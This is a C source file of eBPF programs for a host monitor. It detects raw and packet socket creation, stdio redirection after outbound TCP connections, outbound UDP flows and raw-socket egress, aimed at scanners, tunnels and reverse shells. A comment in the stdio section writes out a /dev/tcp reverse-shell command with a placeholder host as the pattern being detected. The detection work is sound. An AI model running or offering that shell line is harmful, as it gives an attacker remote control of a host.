/* outbound.bpf.c - who opens raw and packet sockets.
 *
 * Raw (SOCK_RAW) and packet (AF_PACKET) sockets send packets that never pass
 * through connect(): nmap -sS, masscan, hping3 and home-made SYN scanners are
 * invisible to conn_monitor.bpf.c. socket() itself is the one moment every
 * such tool must go through, so the syscall tracepoints syscalls:sys_enter_socket
 * and sys_exit_socket (stable tracepoint formats; no kprobes needed) watch it:
 * enter remembers the arguments of an interesting call per thread, exit reports
 * it when the socket was really created. Everything else (TCP, UDP, netlink,
 * unix sockets: nearly all calls) is dropped in the kernel at enter.
 *
 * ns_egress (TCX egress on the monitored interface, attached only with one)
 * counts what raw and packet sockets actually send: packets whose socket
 * (skb->sk, a UAPI struct bpf_sock) is SOCK_RAW or AF_PACKET, per socket
 * cookie x destination x protocol x port, aggregated in an LRU map that the
 * loader reads and empties on an interval. Packets of ordinary sockets cost
 * one pointer test and one field read; forwarded packets (no socket) none.
 *
 * The outbound UDP section (cgroup sendmsg/connect hooks) aggregates what
 * ordinary UDP sockets send per process x destination x port.
 *
 * One file, longer than the project's usual limit, on purpose: BCC rewrites
 * map calls (table.lookup()) only in the main source file, so sections that
 * share maps cannot move into included headers.
 *
 * Own file and structs (bpf/netsentinel.h belongs to the enforcement side).
 * Only UAPI values and tracepoint formats are used.
 */
#include <uapi/linux/bpf.h>
#include <uapi/linux/if_ether.h>
#include <uapi/linux/in.h>
#include <uapi/linux/ip.h>
#include <uapi/linux/ipv6.h>
#include <uapi/linux/tcp.h>
#include <uapi/linux/udp.h>

#define NS_AF_INET 2
#define NS_AF_INET6 10
#define NS_AF_PACKET 17
#define NS_SOCK_TYPE_MASK 0xf   /* type also carries SOCK_NONBLOCK / SOCK_CLOEXEC */
#define NS_SOCK_RAW 3
#define NS_SOCK_PACKET 10       /* obsolete AF_INET packet socket: still a raw sender */

#ifndef NS_RAW_PENDING
#define NS_RAW_PENDING 4096
#endif
#ifndef NS_EXEC_PATHS
#define NS_EXEC_PATHS 16384
#endif
#define NS_PATH_LEN 128

/* The path each process was started with (sched:sched_process_exec), kept
 * per tgid in an LRU map: a ping or a one-shot scanner has often exited
 * before its event is read from /proc, and its comm is whatever it chose. */
struct ns_exec_path {
    char path[NS_PATH_LEN];
};

struct ns_raw_args {
    u32 family;
    u32 type;
    u32 protocol;
};

/* One raw or packet socket that was created. */
struct ns_raw_event {
    u64 ts_ns;
    u32 pid;        /* tgid */
    u32 tid;
    u32 uid;
    s32 fd;         /* what socket() returned */
    u32 family;
    u32 type;       /* as passed, flags included */
    u32 protocol;   /* as passed: packet sockets give an ethertype in network order */
    char comm[16];
    char exec_path[NS_PATH_LEN];   /* empty: started before the loader */
};

BPF_HASH(raw_pending, u32, struct ns_raw_args, NS_RAW_PENDING);
BPF_TABLE("lru_hash", u32, struct ns_exec_path, exec_paths, NS_EXEC_PATHS);
BPF_PERF_OUTPUT(raw_events);
BPF_PERCPU_ARRAY(raw_scratch, struct ns_raw_event, 1);   /* too big for the BPF stack */

/* The sender's comm, and the path it was started with (when seen). */
static __always_inline void ns_who(u32 tgid, char *comm, char *exec_path)
{
    bpf_get_current_comm(comm, 16);
    struct ns_exec_path *p = exec_paths.lookup(&tgid);
    if (p)
        __builtin_memcpy(exec_path, p->path, NS_PATH_LEN);
    else
        exec_path[0] = 0;
}

TRACEPOINT_PROBE(sched, sched_process_exec)
{
    u32 tgid = bpf_get_current_pid_tgid() >> 32;
    struct ns_exec_path p = {};
    TP_DATA_LOC_READ_STR(&p.path, filename, sizeof(p.path));
    exec_paths.update(&tgid, &p);
    return 0;
}

TRACEPOINT_PROBE(syscalls, sys_enter_socket)
{
    u32 family = (u32)args->family;
    u32 type = (u32)args->type & NS_SOCK_TYPE_MASK;
    int inet = family == NS_AF_INET || family == NS_AF_INET6;
    if (!(family == NS_AF_PACKET || (inet && (type == NS_SOCK_RAW || type == NS_SOCK_PACKET))))
        return 0;
    u32 tid = (u32)bpf_get_current_pid_tgid();
    struct ns_raw_args a = {};
    a.family = family;
    a.type = (u32)args->type;
    a.protocol = (u32)args->protocol;
    raw_pending.update(&tid, &a);
    return 0;
}

TRACEPOINT_PROBE(syscalls, sys_exit_socket)
{
    u64 pid_tgid = bpf_get_current_pid_tgid();
    u32 tid = (u32)pid_tgid;
    struct ns_raw_args *a = raw_pending.lookup(&tid);
    if (!a)
        return 0;
    u32 zero = 0;
    struct ns_raw_event *e = raw_scratch.lookup(&zero);
    if (!e) {
        raw_pending.delete(&tid);
        return 0;
    }
    e->family = a->family;
    e->type = a->type;
    e->protocol = a->protocol;
    raw_pending.delete(&tid);
    if (args->ret < 0)
        return 0;   /* refused (no CAP_NET_RAW): nothing was opened */
    e->ts_ns = bpf_ktime_get_ns();
    e->pid = pid_tgid >> 32;
    e->tid = tid;
    e->uid = (u32)bpf_get_current_uid_gid();
    e->fd = (s32)args->ret;
    ns_who(e->pid, e->comm, e->exec_path);
    raw_events.perf_submit(args, e, sizeof(*e));
    return 0;
}

/* ------------------------------------------------- stdio redirections */
/* A reverse shell may connect first and move the socket onto its stdin or
 * stdout whenever it likes (`exec 3<>/dev/tcp/H/443; sleep 5; exec sh <&3
 * >&3`). Processes that started an outbound TCP connection (and what they
 * fork) are remembered; a dup()/dup2()/dup3() of theirs that lands on fd 0
 * or 1 is reported, and the loader then looks at what fd 0/1 became. */
#ifndef NS_CONNECTED
#define NS_CONNECTED 16384
#endif

struct ns_stdio_event {
    u64 ts_ns;
    u32 pid;
    u32 tid;
    u32 uid;
    s32 newfd;
    char comm[16];
};

BPF_TABLE("lru_hash", u32, u8, connected, NS_CONNECTED);
BPF_PERF_OUTPUT(stdio_events);

TRACEPOINT_PROBE(sock, inet_sock_set_state)
{
    if (args->protocol != IPPROTO_TCP || args->newstate != BPF_TCP_SYN_SENT)
        return 0;
    u32 tgid = bpf_get_current_pid_tgid() >> 32;
    u8 one = 1;
    connected.update(&tgid, &one);
    return 0;
}

TRACEPOINT_PROBE(sched, sched_process_fork)
{
    u32 parent = bpf_get_current_pid_tgid() >> 32;
    u32 child = args->child_pid;
    /* Pids are reused: what an earlier process with the child's pid left is
     * not the child's (a forked child has no exec path of its own until it
     * execs; /proc names it meanwhile). */
    exec_paths.delete(&child);
    if (!connected.lookup(&parent)) {
        connected.delete(&child);
        return 0;
    }
    u8 one = 1;
    connected.update(&child, &one);
    return 0;
}

static __always_inline int ns_stdio_dup(void *ctx, long ret)
{
    if (ret != 0 && ret != 1)
        return 0;
    u64 pid_tgid = bpf_get_current_pid_tgid();
    u32 tgid = pid_tgid >> 32;
    if (!connected.lookup(&tgid))
        return 0;
    struct ns_stdio_event e = {};
    e.ts_ns = bpf_ktime_get_ns();
    e.pid = tgid;
    e.tid = (u32)pid_tgid;
    e.uid = (u32)bpf_get_current_uid_gid();
    e.newfd = (s32)ret;
    bpf_get_current_comm(&e.comm, sizeof(e.comm));
    stdio_events.perf_submit(ctx, &e, sizeof(e));
    return 0;
}

TRACEPOINT_PROBE(syscalls, sys_exit_dup2) { return ns_stdio_dup(args, args->ret); }
TRACEPOINT_PROBE(syscalls, sys_exit_dup3) { return ns_stdio_dup(args, args->ret); }
TRACEPOINT_PROBE(syscalls, sys_exit_dup) { return ns_stdio_dup(args, args->ret); }

/* --------------------------------------------------------- outbound UDP */
/* Ordinary UDP sockets never pass through connect() monitoring either: a
 * DNS tunnel, an unprivileged `nmap -sU` or a UDP beacon use sendto() or a
 * connected datagram socket. Aggregated here so a flood of datagrams is not
 * a flood of events: the first datagram (or connect()) of a process x
 * destination x port is one perf event (udp_events, gated by udp_seen), and
 * every datagram adds one to udp_counts, which the loader reads and empties
 * on an interval.
 *   ns_udp_sendmsg4/6: cgroup sendmsg hooks, every sendto()/sendmsg() with a
 *     destination (unconnected sockets);
 *   ns_udp_connect4/6: cgroup connect hooks, a UDP socket's connect(): the
 *     socket cookie is remembered (udp_socks) and what the socket sends later
 *     (no address, so no sendmsg hook) is counted by ns_egress by cookie.
 *   ns_udp_recvmsg4/6: cgroup recvmsg hooks: a peer that spoke first on a
 *     socket (udp_peers) makes what the socket sends it a reply, not counted:
 *     a DNS or NTP server answering its clients' random ports is no port
 *     scan. A peer this socket spoke to first stays a destination however
 *     often it answers (a tunnel's resolver).
 * They are separate programs from enforce.bpf.c's, attached as links (many
 * programs per hook), owned by the loader process: monitoring dies with it.
 * They always return 1 (allow): enforcement is not their job. */
#ifndef NS_UDP_FLOWS
#define NS_UDP_FLOWS 65536
#endif
#define NS_SOCK_DGRAM 2
#define NS_UDP_VIA_SENDMSG 1
#define NS_UDP_VIA_CONNECT 2

struct ns_udp_key {
    u32 pid;        /* tgid of the sender */
    u16 dport;      /* host order */
    u8 family;      /* 4 or 6 */
    u8 pad;
    u8 daddr[16];   /* network order; IPv4 in the first 4 bytes */
};

struct ns_udp_val {
    u64 datagrams;  /* sendto()/sendmsg() calls, plus connected sends seen at egress */
    u64 connects;   /* connect() calls of UDP sockets (a resolver lookup: one each) */
};

struct ns_udp_event {
    u64 ts_ns;
    u32 pid;
    u32 tid;
    u32 uid;
    u16 dport;
    u8 family;
    u8 via;         /* NS_UDP_VIA_* */
    u8 daddr[16];
    char comm[16];
    char exec_path[NS_PATH_LEN];
};

BPF_TABLE("lru_hash", struct ns_udp_key, struct ns_udp_val, udp_counts, NS_UDP_FLOWS);
BPF_TABLE("lru_hash", struct ns_udp_key, u8, udp_seen, NS_UDP_FLOWS);
BPF_TABLE("lru_hash", u64, struct ns_udp_key, udp_socks, NS_UDP_FLOWS);
/* Who spoke first on a socket with one peer: NS_UDP_WE_FIRST or NS_UDP_THEY_FIRST. */
#define NS_UDP_WE_FIRST 1
#define NS_UDP_THEY_FIRST 2
struct ns_udp_peer {
    u64 cookie;
    u8 addr[16];
    u16 port;       /* host order */
    u8 family;
    u8 pad[5];
};
BPF_TABLE("lru_hash", struct ns_udp_peer, u8, udp_peers, NS_UDP_FLOWS);
BPF_PERF_OUTPUT(udp_events);
BPF_PERCPU_ARRAY(udp_scratch, struct ns_udp_event, 1);

/* Count into udp_counts; 1 when this made the flow's entry for the window
 * (only then is udp_seen asked: an LRU insert attempt is not cheap). */
static __always_inline int ns_udp_add(struct ns_udp_key *k, u64 datagrams, u64 connects)
{
    int fresh = 0;
    struct ns_udp_val *v = udp_counts.lookup(k);
    if (!v) {
        struct ns_udp_val zero = {};
        fresh = udp_counts.insert(k, &zero) == 0;   /* BPF_NOEXIST: another CPU may have won */
        v = udp_counts.lookup(k);
        if (!v)
            return fresh;
    }
    if (datagrams)
        __sync_fetch_and_add(&v->datagrams, datagrams);
    if (connects)
        __sync_fetch_and_add(&v->connects, connects);
    return fresh;
}

static __always_inline void ns_udp_first(void *ctx, struct ns_udp_key *k, u8 via)
{
    u8 one = 1;
    if (udp_seen.insert(k, &one) != 0)
        return;   /* this process already sent there: counted, not reported */
    u32 zero = 0;
    struct ns_udp_event *e = udp_scratch.lookup(&zero);
    if (!e)
        return;
    u64 pid_tgid = bpf_get_current_pid_tgid();
    e->ts_ns = bpf_ktime_get_ns();
    e->pid = k->pid;
    e->tid = (u32)pid_tgid;
    e->uid = (u32)bpf_get_current_uid_gid();
    e->dport = k->dport;
    e->family = k->family;
    e->via = via;
    __builtin_memcpy(e->daddr, k->daddr, sizeof(e->daddr));
    ns_who(e->pid, e->comm, e->exec_path);
    udp_events.perf_submit(ctx, e, sizeof(*e));
}

static __always_inline int ns_udp_key_of(struct bpf_sock_addr *ctx, struct ns_udp_key *k, int v6)
{
    if (ctx->type != NS_SOCK_DGRAM || ctx->protocol != IPPROTO_UDP)
        return 0;
    k->pid = bpf_get_current_pid_tgid() >> 32;
    k->dport = ntohs((u16)ctx->user_port);
    if (v6) {
        k->family = 6;
        u32 a[4] = {ctx->user_ip6[0], ctx->user_ip6[1], ctx->user_ip6[2], ctx->user_ip6[3]};
        __builtin_memcpy(k->daddr, a, 16);
    } else {
        k->family = 4;
        u32 a = ctx->user_ip4;
        __builtin_memcpy(k->daddr, &a, 4);
    }
    return 1;
}

/* Who spoke first between this socket and the peer of k: the first to be
 * seen (first sets it, BPF_NOEXIST); the LRU forgets idle pairs. */
static __always_inline u8 ns_udp_initiator(struct bpf_sock_addr *ctx, struct ns_udp_key *k, u8 me)
{
    struct ns_udp_peer p = {};
    p.cookie = bpf_get_socket_cookie(ctx);
    __builtin_memcpy(p.addr, k->daddr, sizeof(p.addr));
    p.port = k->dport;
    p.family = k->family;
    u8 *who = udp_peers.lookup(&p);
    if (who)
        return *who;
    udp_peers.insert(&p, &me);
    return me;
}

static __always_inline int ns_udp_sendmsg(struct bpf_sock_addr *ctx, int v6)
{
    struct ns_udp_key k = {};
    if (ns_udp_key_of(ctx, &k, v6) && ns_udp_initiator(ctx, &k, NS_UDP_WE_FIRST) == NS_UDP_WE_FIRST) {
        if (ns_udp_add(&k, 1, 0))
            ns_udp_first(ctx, &k, NS_UDP_VIA_SENDMSG);
    }
    return 1;
}

/* A datagram received with its source address asked for (recvfrom/recvmsg). */
static __always_inline int ns_udp_recvmsg(struct bpf_sock_addr *ctx, int v6)
{
    struct ns_udp_key k = {};
    if (ns_udp_key_of(ctx, &k, v6))
        ns_udp_initiator(ctx, &k, NS_UDP_THEY_FIRST);
    return 1;
}

static __always_inline int ns_udp_connect(struct bpf_sock_addr *ctx, int v6)
{
    struct ns_udp_key k = {};
    if (ns_udp_key_of(ctx, &k, v6)) {
        u64 cookie = bpf_get_socket_cookie(ctx);
        udp_socks.update(&cookie, &k);
        if (ns_udp_add(&k, 0, 1))
            ns_udp_first(ctx, &k, NS_UDP_VIA_CONNECT);
    }
    return 1;
}

int ns_udp_sendmsg4(struct bpf_sock_addr *ctx) { return ns_udp_sendmsg(ctx, 0); }
int ns_udp_sendmsg6(struct bpf_sock_addr *ctx) { return ns_udp_sendmsg(ctx, 1); }
int ns_udp_connect4(struct bpf_sock_addr *ctx) { return ns_udp_connect(ctx, 0); }
int ns_udp_connect6(struct bpf_sock_addr *ctx) { return ns_udp_connect(ctx, 1); }
int ns_udp_recvmsg4(struct bpf_sock_addr *ctx) { return ns_udp_recvmsg(ctx, 0); }
int ns_udp_recvmsg6(struct bpf_sock_addr *ctx) { return ns_udp_recvmsg(ctx, 1); }

/* ------------------------------------------------------------- egress */
#ifndef NS_EGRESS_ENTRIES
#define NS_EGRESS_ENTRIES 65536
#endif
#define NS_TCX_NEXT -1   /* TCX_NEXT / TC_ACT_UNSPEC: let the packet go on */

struct ns_egress_key {
    u64 cookie;     /* the sending socket (SO_COOKIE) */
    u8 daddr[16];   /* network order; IPv4 in the first 4 bytes */
    u16 dport;      /* host order; 0 for ICMP */
    u8 family;      /* 4 or 6 */
    u8 proto;       /* IPPROTO_TCP / UDP / ICMP / ICMPV6 */
    u32 pad;
};

struct ns_egress_val {
    u64 packets;
    u64 syns;       /* TCP with SYN and no ACK */
};

BPF_TABLE("lru_hash", struct ns_egress_key, struct ns_egress_val, egress_stats, NS_EGRESS_ENTRIES);

int ns_egress(struct __sk_buff *skb)
{
    struct bpf_sock *sk = skb->sk;
    if (!sk)
        return NS_TCX_NEXT;
    sk = bpf_sk_fullsock(sk);
    if (!sk)
        return NS_TCX_NEXT;
    u32 family = sk->family, type = sk->type;
    if (type == NS_SOCK_DGRAM && sk->protocol == IPPROTO_UDP) {
        /* A connected UDP socket's sends carry no address, so no sendmsg
         * hook saw them: count them against the flow its connect() made. */
        u64 cookie = bpf_get_socket_cookie(skb);
        struct ns_udp_key *flow = udp_socks.lookup(&cookie);
        if (flow) {
            struct ns_udp_key k = *flow;
            ns_udp_add(&k, 1, 0);
        }
        return NS_TCX_NEXT;
    }
    if (!(family == NS_AF_PACKET || type == NS_SOCK_RAW || type == NS_SOCK_PACKET))
        return NS_TCX_NEXT;

    struct ns_egress_key k = {};
    struct ethhdr eth;
    if (bpf_skb_load_bytes(skb, 0, &eth, sizeof(eth)) < 0)
        return NS_TCX_NEXT;
    u32 off = sizeof(eth);
    u8 proto;
    if (eth.h_proto == htons(ETH_P_IP)) {
        struct iphdr ip;
        if (bpf_skb_load_bytes(skb, off, &ip, sizeof(ip)) < 0)
            return NS_TCX_NEXT;
        if (ip.frag_off & htons(0x1fff))
            return NS_TCX_NEXT;   /* a later fragment has no ports */
        k.family = 4;
        __builtin_memcpy(k.daddr, &ip.daddr, 4);
        proto = ip.protocol;
        off += ip.ihl * 4;
    } else if (eth.h_proto == htons(ETH_P_IPV6)) {
        struct ipv6hdr ip6;
        if (bpf_skb_load_bytes(skb, off, &ip6, sizeof(ip6)) < 0)
            return NS_TCX_NEXT;
        k.family = 6;
        __builtin_memcpy(k.daddr, &ip6.daddr, 16);
        proto = ip6.nexthdr;      /* extension headers are not followed */
        off += sizeof(ip6);
    } else {
        return NS_TCX_NEXT;
    }
    u8 syn = 0;
    if (proto == IPPROTO_TCP) {
        struct tcphdr th;
        if (bpf_skb_load_bytes(skb, off, &th, sizeof(th)) < 0)
            return NS_TCX_NEXT;
        k.dport = ntohs(th.dest);
        syn = th.syn && !th.ack;
    } else if (proto == IPPROTO_UDP) {
        struct udphdr uh;
        if (bpf_skb_load_bytes(skb, off, &uh, sizeof(uh)) < 0)
            return NS_TCX_NEXT;
        k.dport = ntohs(uh.dest);
    } else if (proto == 58) {   /* ICMPv6 */
        u8 icmp6_type;
        if (bpf_skb_load_bytes(skb, off, &icmp6_type, 1) < 0)
            return NS_TCX_NEXT;
        if (icmp6_type >= 130 && icmp6_type <= 143)
            return NS_TCX_NEXT;   /* MLD and neighbour discovery: the kernel's own */
    } else if (proto != IPPROTO_ICMP) {
        return NS_TCX_NEXT;
    }
    k.proto = proto;
    k.cookie = bpf_get_socket_cookie(skb);
    struct ns_egress_val *v = egress_stats.lookup(&k);
    if (!v) {
        struct ns_egress_val zero = {};
        egress_stats.update(&k, &zero);
        v = egress_stats.lookup(&k);
        if (!v)
            return NS_TCX_NEXT;
    }
    __sync_fetch_and_add(&v->packets, 1);
    if (syn)
        __sync_fetch_and_add(&v->syns, 1);
    return NS_TCX_NEXT;
}
